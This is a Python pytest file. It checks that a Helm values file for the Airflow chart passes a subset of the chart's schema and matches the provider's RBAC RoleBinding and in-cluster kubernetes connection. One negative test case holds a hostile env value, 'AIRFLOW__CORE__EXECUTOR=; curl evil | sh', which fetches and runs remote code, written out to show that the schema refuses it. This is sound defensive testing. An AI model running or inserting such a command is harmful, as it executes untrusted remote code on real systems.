"""``deploy/helm/values-tke.yaml`` is a valid values file of the official Airflow Helm chart (1.19.0):
it passes the chart's ``values.schema.json`` (what ``helm install`` checks first); and it fits this
provider's RBAC manifest — the service accounts it names are exactly the subjects of
``deploy/rbac/airflow-worker.yaml``'s RoleBinding, and the connection the operators use is an
in-cluster ``kubernetes`` connection.

The chart's files are not in the repository: the schema checks use a hand-written subset of the
chart's schema, ``tests/data/airflow-helm-chart-1.19.0/values-subset.schema.json``, covering the keys
the values file sets (its ``$comment`` says which and where they come from; ``tools/check_helm_subset.py``
compares it with the chart's own schema). ``test_the_subset_covers_every_key_the_values_set`` keeps
it covering them.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import jsonschema
import pytest
import yaml

from tests.paths import DATA, ROOT

VALUES = ROOT / "deploy" / "helm" / "values-tke.yaml"
WORKER_RBAC = ROOT / "deploy" / "rbac" / "airflow-worker.yaml"
SUBSET = DATA / "airflow-helm-chart-1.19.0" / "values-subset.schema.json"
RELEASE_NAMESPACE = "airflow"


def coalesce(defaults: dict[str, Any], overrides: dict[str, Any]) -> dict[str, Any]:
    """Helm's merge of a values file over the chart's: maps merge key by key, anything else
    replaces, and a null deletes the chart's key."""
    out = copy.deepcopy(defaults)
    for key, value in overrides.items():
        if value is None:
            out.pop(key, None)
        elif isinstance(value, dict) and isinstance(out.get(key), dict):
            out[key] = coalesce(out[key], value)
        else:
            out[key] = copy.deepcopy(value)
    return out


def subset() -> dict[str, Any]:
    return dict(json.loads(SUBSET.read_text()))


def errors(values: dict[str, Any]) -> list[str]:
    # None of the covered keys is required by the chart, so merging over its defaults (values.yaml)
    # would change nothing the subset checks: an empty map stands in for them; the merge still drops
    # the values file's nulls as Helm does.
    found = jsonschema.Draft7Validator(subset()).iter_errors(coalesce({}, values))
    return sorted(f"{'.'.join(str(p) for p in e.absolute_path)}: {e.message}" for e in found)


def unchecked(values: Any, schema: Any, path: str = "") -> list[str]:
    """The keys of ``values`` that the subset does not give a schema of their own."""
    while isinstance(schema, dict) and "$ref" in schema:
        schema = subset()["definitions"][schema["$ref"].rsplit("/", 1)[1]]
    if isinstance(values, list):
        return [k for item in values for k in unchecked(item, schema.get("items", {}), path + "[]")]
    if not isinstance(values, dict):
        return []
    # of alternatives (a pull secret is a string or {name: ...}), a map is checked by the map's
    schema = next((o for o in schema.get("oneOf", []) if o.get("type") == "object"), schema)
    found = []
    for key, value in values.items():
        rest = schema.get("additionalProperties")
        sub = schema.get("properties", {}).get(key, rest if isinstance(rest, dict) else None)
        where = f"{path}.{key}".lstrip(".")
        found += [where] if sub in (None, True) else unchecked(value, sub, where)
    return found


def ours() -> dict[str, Any]:
    return dict(yaml.safe_load(VALUES.read_text()))


def test_the_values_pass_the_charts_schema() -> None:
    assert errors(ours()) == []


def test_the_subset_covers_every_key_the_values_set() -> None:
    # A key the subset does not describe would pass unchecked: describe it from the chart's schema
    # (tests/data/README.md) before setting it.
    assert unchecked(ours(), subset()) == []


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        # a misspelt key: the chart would ignore it, the schema refuses it
        (
            lambda v: v["logs"]["persistence"].update(storageClass="cfs"),
            "logs.persistence: Additional properties are not allowed ('storageClass' was unexpected)",
        ),
        # a hostile value where the chart expects a list of name/value pairs
        (lambda v: v.update(env="AIRFLOW__CORE__EXECUTOR=; curl evil | sh"), "env: 'AIRFLOW__CORE__EXECUTOR="),
        # an oversized one: a whole pod template where a boolean goes
        (lambda v: v["workers"].update(safeToEvict={"spec": {"containers": [{}] * 1000}}), "workers.safeToEvict: "),
    ],
)
def test_a_wrong_values_file_is_refused_naming_the_key(change: Any, expected: str) -> None:
    values = ours()
    change(values)
    found = errors(values)
    assert any(e.startswith(expected) for e in found), found


def test_the_accounts_are_the_subjects_of_the_providers_role_binding() -> None:
    values = ours()
    named = {values[c]["serviceAccount"]["name"] for c in ("workers", "triggerer", "apiServer")}
    assert all(values[c]["serviceAccount"]["create"] for c in ("workers", "triggerer", "apiServer"))
    [binding] = [d for d in yaml.safe_load_all(WORKER_RBAC.read_text()) if d and d["kind"] == "RoleBinding"]
    subjects = {(s["name"], s["namespace"]) for s in binding["subjects"]}
    assert subjects == {(name, RELEASE_NAMESPACE) for name in named}
    assert values["workers"]["serviceAccount"]["automountServiceAccountToken"] is True


def test_the_operators_connection_is_in_cluster() -> None:
    values = ours()
    conn_id = values["config"]["training"]["kubernetes_conn_id"]
    env = {e["name"]: e["value"] for e in values["env"]}
    connection = json.loads(env[f"AIRFLOW_CONN_{conn_id.upper()}"])
    assert connection["conn_type"] == "kubernetes"
    assert connection["extra"]["in_cluster"] is True
    assert values["executor"] == "KubernetesExecutor" and values["triggerer"]["enabled"] is True
    # the registry's password comes from a Secret, never from the values file
    assert "AIRFLOW_CONN_MODELKIT_REGISTRY_DEFAULT" not in env
    assert any(s["envName"] == "AIRFLOW_CONN_MODELKIT_REGISTRY_DEFAULT" for s in values["secret"])
